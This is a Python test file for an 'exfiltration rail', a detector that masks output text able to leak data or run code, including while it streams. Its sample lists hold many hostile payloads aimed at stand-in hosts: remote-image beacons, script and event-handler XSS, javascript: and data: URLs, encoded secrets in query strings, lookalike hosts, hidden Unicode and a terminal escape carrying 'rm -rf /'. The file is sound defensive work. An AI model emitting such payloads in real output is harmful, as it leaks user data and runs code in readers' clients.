"""What acts or sends data away is found where it starts, also while it streams; harmless links and texts pass."""

# ruff: noqa: E501 - the lists of samples are read as rows

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from governance.rails import WINDOW, Masker, merge_spans
from governance.rails.exfiltration import build_exfiltration_rail
from tests.governance.rails.stream_law import SHIPPED, assert_is_local, assert_streams_equal, unmarked
from tests.governance.test_release import forever, open_gate, split, stream

RAIL = build_exfiltration_rail()

# category, text; the span stands between the brackets
FOUND = [
    ("remote_image", "Look: ⟦![x](https://evil.example/p.png)⟧ and so on."),
    ("remote_image", "Look: ⟦![](//evil.example/p.png)⟧ and so on."),
    ("remote_image", "Look: ⟦![a [b] c](<https://evil.example/p>)⟧ and so on."),
    ("remote_image", "Look: ⟦![x](&#104;ttps://evil.example/p)⟧ and so on."),
    ("remote_image", "Look: ⟦![x](https\\://evil.example/p)⟧ and so on."),
    ("remote_image", 'Look: ⟦![x](\n  http://evil.example/p "t")⟧ and so on.'),
    ("remote_image", "Look: ![long words long words long words long words long words long words long words ⟦](https://evil.example/p)⟧ and so on."),
    ("remote_image", "Look: ⟦![logo][track]⟧ and so on."),
    ("remote_image", "Look: ⟦![logo][]⟧ and so on."),
    ("remote_image", 'Look: ⟦<img src="https://evil.example/p.gif">⟧ and so on.'),
    ("remote_image", "Look: ⟦<IMG alt=x width=1 height=1 SRC=//evil.example/p>⟧ and so on."),
    ("remote_image", 'Look: <img alt="long words long words long words long words long words long words " ⟦src="https://evil.example/p">⟧ and so on.'),
    ("remote_image", 'Look: ⟦<video poster="https://evil.example/p.jpg">⟧ and so on.'),
    ("remote_image", 'Look: ⟦\uff1cimg src="https://evil.example/p"\uff1e⟧ and so on.'),
    ("remote_resource", 'Look: ⟦<link rel="stylesheet" href="https://evil.example/a.css">⟧ and so on.'),
    ("remote_resource", 'Look: ⟦<form action="https://evil.example/post">⟧ and so on.'),
    ("remote_resource", 'Look: ⟦<base href="//evil.example/">⟧ and so on.'),
    ("remote_resource", "Look: ⟦@import url('https://evil.example/a.css⟧') and so on."),
    ("remote_resource", 'Look: <p ⟦style="background:url(https://evil.example/b⟧)"> and so on.'),
    ("active_content", "Look: ⟦<script>⟧alert(1)</script> and so on."),
    ("active_content", "Look: ⟦<ScRiPt src=//evil.example/a.js>⟧ and so on."),
    ("active_content", 'Look: ⟦<iframe srcdoc="x">⟧ and so on.'),
    ("active_content", 'Look: ⟦<object data="https://evil.example">⟧ and so on.'),
    ("active_content", 'Look: ⟦<meta http-equiv="refresh" content="0;url=https://evil.example">⟧ and so on.'),
    ("active_content", "Look: <img src=x ⟦onerror=alert(1)>⟧ and so on."),
    ("active_content", "Look: <svg/⟦onload=alert(1)>⟧ and so on."),
    ("active_content", 'Look: <a href="#" title="x" ⟦onmouseover = "go()">⟧ and so on.'),
    ("active_content", 'Look: ⟦onfocus="fetch(1)"⟧ and so on.'),
    ("active_content", "Look: [click](⟦javascript:alert(1⟧)) and so on."),
    ("active_content", "Look: [click]( ⟦JavaScript:⟧ alert(1)) and so on."),
    ("active_content", 'Look: <a href="⟦java\tscript:alert(1⟧)"> and so on.'),
    ("active_content", "Look: ⟦javascript:void(0⟧) and so on."),
    ("active_content", "Look: ⟦<embed/src=//evil.example/a>⟧ and so on."),
    ("payload_url", "Look: mailto:eve@evil.example?body=⟦cGFzc3dvcmQgaHVudGVyMiBmb3IgamFuZQ⟧ and so on."),
    ("data_url", "Look: ⟦data:text/html,⟧<b>x</b> and so on."),
    ("data_url", "Look: [x](⟦data:image/svg+xml;base64,PHN2Zz4=⟧) and so on."),
    ("payload_url", "Look: https://evil.example/?q=⟦cGFzc3dvcmQgaHVudGVyMiBmb3IgamFuZQ⟧ and so on."),
    ("payload_url", "Look: [docs](https://evil.example/a/⟦cGFzc3dvcmQgaHVudGVyMiBmb3IgamFuZQ⟧) and so on."),
    ("payload_url", "Look: https://evil.example/⟦6d792063617264206e756d6265722069732034313131⟧ and so on."),
    ("payload_url", "Look: http://⟦orugkidtmfwgc4tzebuxgibzgaydambameqhszlboi.evil.example/⟧ and so on."),
    ("payload_url", "Look: https://evil.example/?q=⟦%70%61%73%73⟧ and so on."),
    ("payload_url", "Look: https://evil.example/log⟦?conversation=we+talked+of+pay⟧ and so on."),
    ("payload_url", "Look: https://evil.example/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/⟦?secret=hunter2hunter2⟧ and so on."),
    ("reference_link", "Look:\n⟦[1]: https://evil.example/?d=hello⟧\nand so on."),
    ("disguised_host", "Look: ⟦http://3232235777/x⟧ and so on."),
    ("disguised_host", "Look: ⟦http://0x7f000001/⟧ and so on."),
    ("disguised_host", "Look: ⟦https://bank.example@evil.example/⟧ and so on."),
    ("disguised_host", "Look: ⟦https://p\u0430ypal.example⟧/login and so on."),
    ("disguised_host", "Look: ⟦http://8.8.8.8/a?b=c⟧ and so on."),
    ("collector", "Look: ⟦https://webhook.site/abc?x=1⟧ and so on."),
    ("hidden_text", "Look: hi⟦\U000e0069\U000e0067\U000e006e⟧ and so on."),
    ("hidden_text", "Look: a⟦\u200b\u200c\u200b\u200c\u200b\u200c\u200b\u200c\u200b\u200c\u200b\u200c\u200b\u200c\u200b\u200c⟧b and so on."),
    ("hidden_text", "Look: x⟦\ufe01\ufe02\ufe03\ufe04⟧ and so on."),
    ("terminal_escape", "Look: ⟦\x1b[2J⟧\x1b[H and so on."),
    ("terminal_escape", "Look: ⟦\x1b]52;c;cm0gLXJmIC8=\x07⟧ and so on."),
    ("terminal_escape", "Look: ⟦\x1b]8;;https://evil.example\x07⟧x and so on."),
]  # fmt: skip
HARMLESS = [
    "See [the guide](https://docs.example.com/guide/install.html#step-2).",
    "https://docs.python.org/3/library/re.html?highlight=finditer#re.finditer",
    "https://github.com/o/r/commit/3b18e512dba79e4c8300dd08aeb37f8e728b8dad",
    "https://docs.google.com/document/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit",
    "https://ru.wikipedia.org/wiki/%D0%9C%D0%BE%D1%81%D0%BA%D0%B2%D0%B0",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
    "https://www.google.com/search?q=rust+lifetimes",
    "https://example.com/getting-started-with-the-workbench-in-production",
    "https://example.com/?utm_source=newsletter&utm_campaign=spring_2026",
    "https://medium.com/@writer/story-of-a-machine-1a2b3c4d5e6f",
    "https://m\u00fcnchen.example/ and https://\u043a\u0440\u0435\u043c\u043b\u044c.example/",
    "http://192.168.1.1/setup?step=2 or http://localhost:8080/?a=1",
    "https://api.example.com/v1?token=YOUR_TOKEN",
    "https://api.example.com/v1?api_key=<key>",
    "Write to bob@example.com.",
    "![plan](images/plan.png)",
    "![plan](/static/plan.png)",
    "Great![1] It works.[2]",
    "Wow![1][2] Yes, [docs](https://docs.example.com).",
    "[^1]: See the handbook.",
    "a < b and b > c, <b>bold</b>, <br>, x <- y",
    "Use `<b>` for bold.",
    "<object object at 0x7f0012>",
    "List<String> x = new ArrayList<>();",
    "JavaScript: The Good Parts",
    "data: 12, 13; text: data/a.csv",
    "window.onload = init; img.onerror = function() {}",
    "vec![1, 2, 3] and #![allow(x)]",
    "Set on = 5; only=3",
    "print('\\x1b[31m red')",
    "The path C:\\Users\\x and //comment, 1/2, and/or",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 and \U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f and \u2764\ufe0f",
    "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645, co\u00adoperate, \ufeffstart",
    "",
]  # fmt: skip
WEAKER = [
    (0.6, "The `<script>` element runs code."), (0.95, "x `a`<script>`${alert(1)}`"), (0.95, "\\`<script>`x`"),
    (0.6, "https://example.com/reset?token=abc12345xyz"), (0.6, "http://8.8.8.8/"), (0.6, "https://xn--mnchen-3ya.example/"),
    (0.6, "http://[2606:4700::1111]/"), (0.6, "https://webhook.site/abc"), (0.6, "https://a.example/u/jane.doe@corp.example/"),
    (0.6, "![" + "no end " * 12), (0.5, "\x1b[31mred"), (0.5, "<svg viewBox='0'>"), (0.5, "[foo]: https://a.example/b"),
    (0.3, "[1]: https://docs.python.org/3/"), (0.5, "data:image/png;base64,AAAA"), (0.5, "url(https://a.example/b.png)"),
    (0.5, "https://e.example/?q=a%20b%20c%20d"), (0.5, "https://s3.example/k?Signature=3b18e512dba79e4c8300dd08aeb37f8e728b8dad3b18"),
]  # fmt: skip
PIECES = [
    *(unmarked(marked) for _, marked in FOUND),
    "![", "](", "](https:", "//x.example/", "<img ", "<script", ">", " src=", "onload=", "[a]:", "?q=", "%41%42", "\x1b[", "`",
    "\u200b" * 5, "\U000e0041", "\U0001f3f4", "\n", "\n\n", " ", "a" * 70, "word and word ", "java\t", "script:", "\"", "(", ")",
]  # fmt: skip


@pytest.mark.parametrize(("category", "marked"), FOUND)
def test_exfiltration_rail_finds_exact_span(category: str, marked: str) -> None:
    spans = {(f.start, f.end) for f in RAIL.inspect(unmarked(marked)) if f.category == category and f.score >= 0.9}
    assert (marked.index("⟦"), marked.index("⟧") - 1) in spans


@pytest.mark.parametrize("text", HARMLESS)
def test_exfiltration_rail_leaves_harmless_text_alone(text: str) -> None:
    assert RAIL.inspect(text) == []


@pytest.mark.parametrize(("score", "text"), WEAKER)
def test_exfiltration_rail_tells_what_acts_from_what_may(score: float, text: str) -> None:
    assert max(f.score for f in RAIL.inspect(text)) == score


def test_every_category_is_named_and_found() -> None:
    assert {category for category, _ in FOUND} | {"markup"} == RAIL.categories
    assert RAIL.name == "exfiltration"
    assert RAIL.version.startswith("sha256:")
    assert RAIL.version == build_exfiltration_rail().version


def test_evidence_holds_no_text() -> None:
    [finding] = RAIL.inspect("![x](https://evil.example/p.png)")
    assert finding.evidence == "32 characters"


@pytest.mark.parametrize("path", SHIPPED, ids=lambda path: f"{path.parent.name}/{path.name}")
def test_shipped_texts_hold_nothing_that_exfiltrates(path: Path) -> None:
    assert [f for f in RAIL.inspect(path.read_text(encoding="utf-8")) if f.score >= 0.9] == []


@pytest.mark.parametrize("marked", [marked for _, marked in FOUND])
def test_finding_is_the_same_at_every_split(marked: str) -> None:
    text = f"Well, {unmarked(marked)} and that was all of it. Bye"
    for cut in range(len(text) + 1):
        assert_is_local(RAIL, text, cut)
    assert_streams_equal(RAIL, text)


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=8), st.data())
def test_findings_before_the_edge_are_those_of_the_whole_text(pieces: list[str], data: st.DataObject) -> None:
    text = "".join(pieces)
    assert_is_local(RAIL, text, data.draw(st.integers(0, len(text))))


@settings(max_examples=60, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=6), st.integers(1, 40))
def test_streamed_text_equals_the_whole_text_masked_at_once(pieces: list[str], size: int) -> None:
    text = "".join(pieces)
    whole = Masker().mask(text, merge_spans(RAIL.inspect(text)))
    gate = open_gate(rails=[RAIL])
    assert stream(gate, split(text, forever(size))) == whole
    assert not gate.stopped


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=300) | st.text("![](<>)=\"'`:/?&#%@.\\ \n\t\x1b[]oncsriptjavaheml014", max_size=300))
def test_any_text_gives_findings_inside_it(text: str) -> None:
    for finding in RAIL.inspect(text):
        assert 0 <= finding.start < finding.end <= len(text)
        assert finding.category in RAIL.categories


@pytest.mark.timeout(60)
@pytest.mark.parametrize("piece", PIECES, ids=repr)
def test_long_hostile_text_is_judged_in_bounded_time(piece: str) -> None:
    text = (piece * 100_000)[:100_000]
    assert all(f.end <= len(text) for f in RAIL.inspect(text))
    assert len(text) - RAIL.undecided_from(text) <= WINDOW
